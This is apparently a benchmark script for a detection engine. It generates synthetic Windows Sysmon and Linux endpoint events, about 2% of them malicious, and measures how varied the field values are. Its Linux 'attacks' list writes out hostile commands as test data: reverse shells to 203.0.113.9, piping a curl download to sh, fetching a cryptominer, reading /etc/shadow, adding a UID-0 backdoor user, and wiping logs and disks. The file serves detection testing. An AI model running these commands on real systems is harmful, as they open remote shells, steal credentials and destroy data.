// Writes events of ordinary machines, one JSON object a line, always the same
// ones, and prints how varied their values are.
//
// usage: bench/corpus windows|linux COUNT FILE
//
// windows: the shape (fields, their order and kind) of each event is that of a
// sample of SigmaHQ's regression data (HIKESHI_SIGMA), as EVTX exporters write
// it. The values of 98 of 100 are drawn from large dictionaries: hosts, users,
// paths, programs, command lines, registry keys, hashes. 2 of 100 keep the texts
// of their sample, so that rules find something; host, user, identifiers and
// times differ all the same.
// linux: events as our agent writes them; 2 of 100 with the command of an attack.

import { createHash } from 'node:crypto';
import { closeSync, openSync, readFileSync, readdirSync, statSync, writeSync } from 'node:fs';
import { join } from 'node:path';

const [kind, total, path] = [process.argv[2], Number(process.argv[3]), process.argv[4]];
if (!['windows', 'linux'].includes(kind) || !(total > 0) || !path) {
	console.error('usage: bench/corpus windows|linux COUNT FILE');
	process.exit(2);
}
const MALICIOUS = 0.02;

// -- chance: mulberry32 with a fixed seed ---------------------------------------

let state = 20261121;
function random() {
	state = (state + 0x6d2b79f5) | 0;
	let t = Math.imul(state ^ (state >>> 15), 1 | state);
	t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t;
	return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
}
const below = (n) => Math.floor(random() * n);
const pick = (list) => list[below(list.length)];
/** Few are frequent, most are rare, as on real machines. */
const often = (list) => list[Math.floor(random() * random() * list.length)];
const times = (n, make) => Array.from({ length: n }, make);
const hex8 = () => ((random() * 4294967296) >>> 0).toString(16).padStart(8, '0').toUpperCase();
const hex = (digits) => { let text = ''; while (text.length < digits) text += hex8(); return text.slice(0, digits); };
const guid = () => `${hex(8)}-${hex(4)}-${hex(4)}-${hex(4)}-${hex(12)}`;
const chance = (share) => random() < share;

// -- dictionaries ---------------------------------------------------------------

const onsets = ['b', 'br', 'c', 'ch', 'cl', 'd', 'dr', 'f', 'fl', 'g', 'gr', 'h', 'j', 'k', 'l', 'm', 'n', 'p', 'pl', 'pr', 'r', 's', 'sh', 'st', 't', 'tr', 'v', 'w', 'y', 'z'];
const cores = ['a', 'e', 'i', 'o', 'u', 'ai', 'ea', 'io', 'ou'];
const codas = ['', '', 'n', 'r', 's', 't', 'l', 'm', 'ck', 'nd', 'rt', 'x'];
const syllable = () => pick(onsets) + pick(cores) + pick(codas);
const word = () => syllable() + syllable() + (chance(0.4) ? syllable() : '');
const capital = (text) => text[0].toUpperCase() + text.slice(1);
const words = times(20000, word);
const names = times(4000, () => capital(word()));
const plain = ('data report backup update setup install config server client network user system service manager host agent sync cache image print office mail ' +
	'project document sales order invoice customer driver display audio video monitor tools library runtime framework package release debug test build source ' +
	'main index list export import template session profile policy task schedule query result output input temp log archive history license help').split(' ');
const anyWord = () => (chance(0.4) ? often(plain) : pick(words));

const domains = times(300, () => word().toUpperCase());
const hosts = times(8000, () => `${pick(['PC', 'WS', 'NB', 'SRV', 'DC', 'FS'])}-${pick(domains).slice(0, 6)}${below(1000)}.${pick(words)}.${pick(['example', 'local', 'lan', 'corp.example'])}`);
const users = times(20000, () => `${pick(domains)}\\${pick([word(), `${pick('abcdefghijkmnprst')}.${word()}`, `${word()}${below(100)}`, `${word()}.${word()}`])}`);
const services = ['NT AUTHORITY\\SYSTEM', 'NT AUTHORITY\\NETWORK SERVICE', 'NT AUTHORITY\\LOCAL SERVICE'];
const user = () => (chance(0.3) ? pick(services) : often(users));
const short = (name) => name.split('\\').pop();

const system = ('svchost.exe conhost.exe taskhostw.exe RuntimeBroker.exe backgroundTaskHost.exe dllhost.exe SearchProtocolHost.exe SearchFilterHost.exe SearchIndexer.exe ' +
	'services.exe lsass.exe csrss.exe wininit.exe winlogon.exe smss.exe spoolsv.exe sihost.exe ctfmon.exe dwm.exe fontdrvhost.exe audiodg.exe WerFault.exe wermgr.exe ' +
	'MusNotification.exe UsoClient.exe wuauclt.exe TiWorker.exe CompatTelRunner.exe consent.exe msiexec.exe rundll32.exe regsvr32.exe cmd.exe net.exe net1.exe sc.exe reg.exe ' +
	'schtasks.exe tasklist.exe ipconfig.exe ping.exe whoami.exe hostname.exe where.exe find.exe findstr.exe xcopy.exe robocopy.exe icacls.exe chcp.com mode.com netsh.exe gpupdate.exe ' +
	'gpresult.exe wscript.exe cscript.exe mmc.exe notepad.exe mstsc.exe control.exe taskmgr.exe perfmon.exe eventvwr.exe cleanmgr.exe defrag.exe vssvc.exe wbem\\WmiPrvSE.exe ' +
	'wbem\\unsecapp.exe WindowsPowerShell\\v1.0\\powershell.exe smartscreen.exe SecurityHealthService.exe LogonUI.exe userinit.exe SystemSettingsBroker.exe ApplicationFrameHost.exe').split(' ');
const vendors = times(600, () => capital(word()));
const common = ['Google\\Chrome\\Application\\chrome.exe', 'Microsoft\\Edge\\Application\\msedge.exe', 'Microsoft Office\\root\\Office16\\WINWORD.EXE', 'Microsoft Office\\root\\Office16\\EXCEL.EXE',
	'Microsoft Office\\root\\Office16\\OUTLOOK.EXE', 'Mozilla Firefox\\firefox.exe', 'Adobe\\Acrobat DC\\Acrobat\\Acrobat.exe', '7-Zip\\7zFM.exe', 'Notepad++\\notepad++.exe', 'Git\\cmd\\git.exe',
	'Microsoft VS Code\\Code.exe', 'Zoom\\bin\\Zoom.exe', 'dotnet\\dotnet.exe', 'nodejs\\node.exe', 'Java\\jre1.8.0_381\\bin\\java.exe', 'Windows Defender\\MsMpEng.exe', 'VideoLAN\\VLC\\vlc.exe'];
const products = times(6000, () => `${pick(vendors)}\\${chance(0.5) ? `${capital(anyWord())} ${capital(anyWord())}` : capital(anyWord())}\\${chance(0.4) ? 'bin\\' : ''}${chance(0.5) ? anyWord() : capital(anyWord()) + capital(anyWord())}.exe`);
const drive = () => (chance(0.9) ? 'C:' : pick(['D:', 'E:', 'F:']));
const home = () => `C:\\Users\\${short(often(users))}`;
function program() {
	const kind = random();
	if (kind < 0.5)
		return `C:\\Windows\\${chance(0.93) ? 'System32' : 'SysWOW64'}\\${often(system)}`;
	if (kind < 0.62)
		return `C:\\Program Files${chance(0.3) ? ' (x86)' : ''}\\${often(common)}`;
	if (kind < 0.85)
		return `C:\\Program Files${chance(0.3) ? ' (x86)' : ''}\\${often(products)}`;
	if (kind < 0.95)
		return `${home()}\\AppData\\Local\\${pick(['Programs\\', 'Microsoft\\', ''])}${capital(pick(words))}\\${anyWord()}.exe`;
	return `${drive()}\\${capital(anyWord())}\\${anyWord()}\\${anyWord()}${below(100)}.exe`;
}
const extensions = ['txt', 'log', 'tmp', 'xml', 'json', 'dat', 'ini', 'docx', 'xlsx', 'pdf', 'pptx', 'csv', 'png', 'jpg', 'js', 'py', 'db', 'bak', 'html', 'md', 'yml', 'dll', 'lnk', 'zip', 'cab', 'etl', 'pf', 'exe', 'ps1', 'bat'];
const fileName = () => `${pick([anyWord(), `${anyWord()}_${anyWord()}`, `${capital(anyWord())} ${anyWord()}`, hex(8).toLowerCase(), `${anyWord()}-${below(10000)}`, '見積書_2026年4月', '請求書'])}.${often(extensions)}`;
const folder = () => pick([() => `${home()}\\Documents\\${capital(anyWord())}`, () => `${home()}\\AppData\\Local\\Temp`, () => `${home()}\\AppData\\Roaming\\${capital(pick(words))}\\${anyWord()}`,
	() => `${home()}\\Downloads`, () => 'C:\\Windows\\Temp', () => `C:\\ProgramData\\${pick(vendors)}\\${anyWord()}`, () => `${drive()}\\${capital(anyWord())}\\${anyWord()}`,
	() => `\\\\${pick(hosts).split('.')[0].toLowerCase()}\\${anyWord()}\\${anyWord()}`, () => `C:\\Program Files\\${pick(vendors)}\\${capital(anyWord())}`])();
const file = () => `${folder()}\\${fileName()}`;
const url = () => `https://${pick(['www', 'api', 'cdn', 'update', anyWord()])}.${pick(words)}.${pick(['example', 'com', 'net', 'jp', 'io'])}/${anyWord()}/${anyWord()}?${anyWord()}=${below(100000)}`;
const option = () => pick([
	() => `--${anyWord()}=${anyWord()}`, () => `--${anyWord()}-${anyWord()}=${below(100000)}`, () => `/${anyWord()}`, () => `-${pick('abcdefghiklmnopqrstuvwxyz')}`,
	() => `/${pick('abcdefghiklmnopqrstuvwxyz')}:${anyWord()}`, () => `"${file()}"`, file, () => String(below(65536)), () => `{${guid()}}`, url, anyWord, () => `-${anyWord()} ${anyWord()}`,
	() => `--field-trial-handle=${below(9999)},i,${below(1e9)},${below(1e9)},${below(262144)}`, () => `--type=${pick(['renderer', 'utility', 'gpu-process', 'crashpad-handler'])}`,
])();
const commandLine = (image) => `${chance(0.6) ? `"${image}"` : chance(0.5) ? image : image.split('\\').pop()} ${times(1 + below(7), option).join(' ')}`;
const hives = ['HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion', 'HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion', 'HKLM\\System\\CurrentControlSet\\Services', 'HKLM\\System\\CurrentControlSet\\Control',
	'HKLM\\SOFTWARE\\WOW6432Node\\Microsoft', 'HKLM\\SOFTWARE\\Classes', 'HKLM\\SOFTWARE\\Policies\\Microsoft'];
const key = () => `${chance(0.5) ? pick(hives) : `HKU\\S-1-5-21-${below(2e9)}-${below(2e9)}-${below(2e9)}-${1000 + below(9000)}\\Software\\${pick(['Microsoft\\Windows\\CurrentVersion\\Explorer', 'Microsoft\\Office\\16.0', pick(vendors)])}`}\\${times(1 + below(3), () => capital(anyWord())).join('\\')}\\${pick([capital(anyWord()), `{${guid()}}`, anyWord()])}`;
const library = () => `C:\\Windows\\${chance(0.85) ? 'System32' : 'SysWOW64'}\\${pick([`${pick(['kernel32', 'ntdll', 'user32', 'combase', 'crypt32', 'advapi32', 'ole32', 'rpcrt4', 'ws2_32', 'shell32'])}`, anyWord()])}.dll`;
const version = () => `${below(20)}.${below(10)}.${below(30000)}.${below(5000)}`;
const sentence = () => times(2 + below(3), () => capital(anyWord())).join(' ');
const trace = () => times(6 + below(10), () => `${library()}+${below(1e6).toString(16)}`).join('|');

// -- Windows ---------------------------------------------------------------------

/** What a field of an ordinary event holds; fields without a row keep the sample's value. */
const makers = {
	Image: program, SourceImage: program, TargetImage: program, ParentImage: program,
	CommandLine: (event) => commandLine(event.Image ?? program()),
	ParentCommandLine: (event) => commandLine(event.ParentImage ?? program()),
	OriginalFileName: (event) => (event.Image ?? event.ImageLoaded ?? program()).split('\\').pop(),
	CurrentDirectory: () => `${chance(0.5) ? 'C:\\Windows\\system32' : folder()}\\`,
	FileVersion: () => `${version()} (WinBuild.160101.0800)`, Description: sentence,
	Product: () => (chance(0.5) ? 'Microsoft® Windows® Operating System' : sentence()), Company: () => (chance(0.5) ? 'Microsoft Corporation' : `${pick(vendors)} ${pick(['Inc.', 'Ltd.', 'GmbH', '株式会社'])}`),
	TargetFilename: file, TargetObject: key, ImageLoaded: library, CallTrace: trace, Signature: () => (chance(0.5) ? 'Microsoft Windows' : pick(vendors)),
	Details: () => pick([() => `DWORD (0x${hex(8).toLowerCase()})`, file, sentence, () => 'Binary Data', () => `QWORD (0x${hex(8)}-0x${hex(8)})`])(),
	GrantedAccess: () => `0x${pick(['1000', '1400', '1410', '101000', '1fffff', '1f3fff'])}`,
	Hashes: () => `SHA1=${hex(40)},MD5=${hex(32)},SHA256=${hex(64)},IMPHASH=${hex(32)}`,
	IntegrityLevel: () => pick(['Low', 'Medium', 'High', 'System']),
};
/** What differs in every event. */
const always = {
	User: user, ParentUser: user, SourceUser: user, TargetUser: user, SubjectUserName: () => short(user()), ProcessGuid: guid, ParentProcessGuid: guid, LogonGuid: guid, SourceProcessGUID: guid,
	TargetProcessGUID: guid, ProcessId: () => 4 * below(20000), ParentProcessId: () => 4 * below(20000), SourceProcessId: () => 4 * below(20000), TargetProcessId: () => 4 * below(20000),
	SourceThreadId: () => 4 * below(20000), LogonId: () => `0x${hex(6).toLowerCase()}`, TerminalSessionId: () => below(8),
};

/** One object, or several one behind another. */
function objects(text) {
	const list = [];
	for (let at = 0, depth = 0, from = 0, inString = false; at < text.length; at++) {
		const c = text[at];
		if (inString) {
			if (c === '\\')
				at++;
			else if (c === '"')
				inString = false;
		} else if (c === '"') {
			inString = true;
		} else if (c === '{') {
			if (depth++ === 0)
				from = at;
		} else if (c === '}' && --depth === 0) {
			list.push(JSON.parse(text.slice(from, at + 1)));
		}
	}
	return list;
}

function samplesIn(place) {
	return readdirSync(place).sort().flatMap((name) => {
		const full = join(place, name);
		if (statSync(full).isDirectory())
			return samplesIn(full);
		return name.endsWith('.json') ? objects(readFileSync(full, 'utf8')) : [];
	});
}

function windowsMaker() {
	const samples = samplesIn(join(process.env.HIKESHI_SIGMA ?? '../shared/sigma', 'regression_data')).filter(({ Event: { EventData } }) => EventData && !Array.isArray(EventData.Data));
	const byKind = new Map();
	for (const sample of samples) {
		const number = sample.Event.System.Channel.includes('Sysmon') ? sample.Event.System.EventID : 0;
		byKind.set(number, [...(byKind.get(number) ?? []), sample]);
	}
	// As a Sysmon with a common configuration writes them; what the samples lack is left out.
	const mix = [[1, 55], [11, 13], [13, 13], [12, 4], [7, 8], [10, 6], [0, 1]].filter(([number]) => byKind.has(number));
	const lot = mix.flatMap(([number, share]) => times(share, () => byKind.get(number)));

	return (number) => {
		const { Event } = pick(pick(lot)), malicious = chance(MALICIOUS);
		const at = new Date(1795230000000 + number * 37), data = {};
		for (const [name, value] of Object.entries(Event.EventData)) {
			if (name === 'UtcTime' || name === 'CreationUtcTime')
				data[name] = at.toISOString().replace('T', ' ').replace('Z', '');
			else if (always[name])
				data[name] = always[name]();
			else
				data[name] = malicious || !makers[name] || value === null ? value : makers[name](data);
		}
		return {
			Event: {
				...Event,
				System: {
					...Event.System, TimeCreated: { '#attributes': { SystemTime: at.toISOString() } }, EventRecordID: number, Computer: often(hosts),
					Execution: { '#attributes': { ProcessID: 4 * below(20000), ThreadID: 4 * below(20000) } },
				},
				EventData: data,
			},
		};
	};
}

// -- Linux -----------------------------------------------------------------------

const attacks = ['bash -i >& /dev/tcp/203.0.113.9/4444 0>&1', 'curl -fsSL http://203.0.113.7/x.sh | sh', 'wget -q http://203.0.113.7/kinsing -O /tmp/kinsing', 'chattr +i /etc/ld.so.preload', 'crontab -r',
	'base64 -d /tmp/payload.b64', 'history -c', 'cat /etc/shadow', 'nohup /tmp/xmrig --donate-level 1', 'python3 -c import pty;pty.spawn("/bin/bash")', 'systemctl stop firewalld', 'iptables -F', 'insmod /tmp/hide.ko',
	'touch -d "2020-01-01" /etc/passwd', 'find / -perm -4000', 'useradd -o -u 0 backdoor', 'rm -rf /var/log/', 'dd if=/dev/zero of=/dev/sda', 'chmod 777 /tmp/.hidden', 'nc -e /bin/sh 203.0.113.9 4444'];
const tools = ('bash sh dash python3 perl grep sed awk find cat ls cp mv rm mkdir chmod chown tar gzip zstd curl wget ssh scp rsync git make gcc ld apt-get apt dpkg systemctl journalctl cron ' +
	'sudo su id ps top df du mount umount ip ss ping dig openssl node java docker containerd runc nginx postgres redis-server sshd logrotate run-parts head tail sort uniq cut tr wc xargs env date sleep test').split(' ');
const linuxUsers = times(3000, () => pick([word(), `${word()}${below(100)}`]));
const linuxUser = () => (chance(0.4) ? 'root' : often(linuxUsers));
const linuxProgram = () => (chance(0.8) ? `/usr/${pick(['bin', 'sbin', 'bin', 'local/bin'])}/${often(tools)}` : `/opt/${pick(words)}/bin/${anyWord()}`);
const linuxFile = () => `${pick([() => `/home/${pick(linuxUsers)}/${anyWord()}`, () => `/var/lib/${anyWord()}/${anyWord()}`, () => `/var/log/${anyWord()}`, () => `/etc/${anyWord()}.d`, () => `/tmp/${anyWord()}.${hex(8).toLowerCase()}`, () => `/srv/${anyWord()}/${anyWord()}`, () => `/usr/share/${anyWord()}`])()}/${pick([anyWord(), `${anyWord()}_${below(1000)}`])}.${often(['log', 'conf', 'txt', 'json', 'py', 'sh', 'so', 'db', 'tmp', 'c', 'o', 'service', 'gz'])}`;
const linuxOption = () => pick([() => `-${pick('abcdefghiklmnopqrstuvwxyz')}`, () => `--${anyWord()}`, () => `--${anyWord()}=${anyWord()}`, linuxFile, anyWord, () => String(below(65536)), url])();
const linuxCommand = (image) => `${chance(0.5) ? image : image.split('/').pop()} ${times(1 + below(8), linuxOption).join(' ')}`;
const linuxId = (at) => `${at.getTime().toString(16).padStart(12, '0').replace(/^(.{8})/, '$1-')}-7${hex(3).toLowerCase()}-8${hex(3).toLowerCase()}-${hex(12).toLowerCase()}`;

function linuxMaker() {
	const fleet = times(2000, () => ({ device: createHash('sha1').update(pick(words) + random()).digest('hex').replace(/^(.{8})(.{4}).(.{3}).(.{3})(.{12}).*/, '$1-$2-4$3-8$4-$5') }));

	return (number) => {
		const at = new Date(1795230000000 + number * 37), kind = random(), malicious = chance(MALICIOUS), { device } = often(fleet);
		const hikeshi = { id: linuxId(at), device, observed: at.toISOString(), product: 'linux', category: kind < 0.6 ? 'process_creation' : kind < 0.8 ? 'file_event' : kind < 0.9 ? 'network_connection' : 'process_termination' };
		const parent = linuxProgram(), image = malicious ? `/usr/bin/${pick(['bash', 'curl', 'nc', 'crontab'])}` : linuxProgram();
		const process = { Image: image, User: linuxUser(), ProcessId: below(4194304), ProcessGuid: guid().toLowerCase() };
		if (hikeshi.category === 'process_creation')
			return { hikeshi, Image: image, CommandLine: malicious ? pick(attacks) : linuxCommand(image), CurrentDirectory: chance(0.4) ? '/' : linuxFile(), StandardInput: pick(['null', 'pipe', 'tty', 'socket', 'file']), User: process.User,
				LogonId: below(100000), ProcessId: process.ProcessId, ProcessGuid: process.ProcessGuid, ParentProcessId: below(4194304), ParentProcessGuid: guid().toLowerCase(), ParentImage: parent, ParentCommandLine: linuxCommand(parent), ParentUser: linuxUser() };
		if (hikeshi.category === 'file_event')
			return { hikeshi, ...process, ParentProcessGuid: guid().toLowerCase(), TargetFilename: malicious ? pick(['/etc/cron.d/x', '/etc/ld.so.preload', '/etc/profile.d/y.sh', '/tmp/a.ko']) : linuxFile(), Operation: pick(['created', 'written', 'renamed']) };
		if (hikeshi.category === 'network_connection')
			return { hikeshi, ...process, Protocol: 'tcp', Initiated: 'true', SourceIp: `192.0.2.${below(256)}`, SourcePort: 32768 + below(28000), DestinationIp: `198.51.${below(256)}.${below(256)}`, DestinationPort: pick([22, 53, 80, 443, 5432, 6379, 8080]), DestinationIsIpv6: 'false' };
		return { hikeshi, ...process, ExitCode: chance(0.9) ? 0 : below(128) };
	};
}

// -- how many values are distinct: HyperLogLog -------------------------------------

class Distinct {
	count = 0;
	register = new Uint8Array(1 << 14);

	add(text) {
		let a = 0x811c9dc5, b = 0x9747b28c;
		for (let i = 0; i < text.length; i++) {
			const c = text.charCodeAt(i);
			a = Math.imul(a ^ c, 0x01000193);
			b = Math.imul(b ^ c, 0x5bd1e995);
			b ^= b >>> 15;
		}
		a = Math.imul(a ^ (a >>> 16) ^ b, 0x85ebca6b);
		a = Math.imul(a ^ (a >>> 13), 0xc2b2ae35);
		a ^= a >>> 16;
		b = Math.imul(b ^ (b >>> 16) ^ a, 0x85ebca6b);
		b ^= b >>> 13;
		const place = a & 16383, rank = Math.clz32(b) + 1;
		if (rank > this.register[place])
			this.register[place] = rank;
		this.count++;
	}

	get share() {
		const m = this.register.length;
		let sum = 0, empty = 0;
		for (const rank of this.register) {
			sum += 2 ** -rank;
			empty += rank === 0;
		}
		let guess = 0.7213 / (1 + 1.079 / m) * m * m / sum;
		if (guess < 2.5 * m && empty > 0)
			guess = m * Math.log(m / empty);
		return Math.min(guess / this.count, 1);
	}
}

// -- all of them --------------------------------------------------------------------

const all = new Distinct(), fields = new Map();
function note(name, value) {
	if (typeof value !== 'string' || value.length < 3)
		return;
	if (!fields.has(name))
		fields.set(name, new Distinct());
	fields.get(name).add(value);
	all.add(value);
}

const make = kind === 'windows' ? windowsMaker() : linuxMaker();
const out = openSync(path, 'w');
let part = [], length = 0, bytes = 0;
function flush() {
	bytes += writeSync(out, Buffer.from(part.join('')));
	part = [];
	length = 0;
}
for (let number = 1; number <= total; number++) {
	const event = make(number);
	if (kind === 'windows')
		note('Computer', event.Event.System.Computer);
	for (const [name, value] of Object.entries(kind === 'windows' ? event.Event.EventData : event))
		note(name, value);
	part.push(JSON.stringify(event), '\n');
	length += 1500;
	if (length > 1 << 22)
		flush();
}
flush();
closeSync(out);
console.log(`${path}: ${total} events of ${Math.round(bytes / total)} bytes; ${(100 * all.share).toFixed(0)} % of ${all.count} texts are distinct`);
console.log([...fields].filter(([, { count }]) => count > total / 20).map(([name, distinct]) => `${name} ${(100 * distinct.share).toFixed(1)} %`).join(', '));
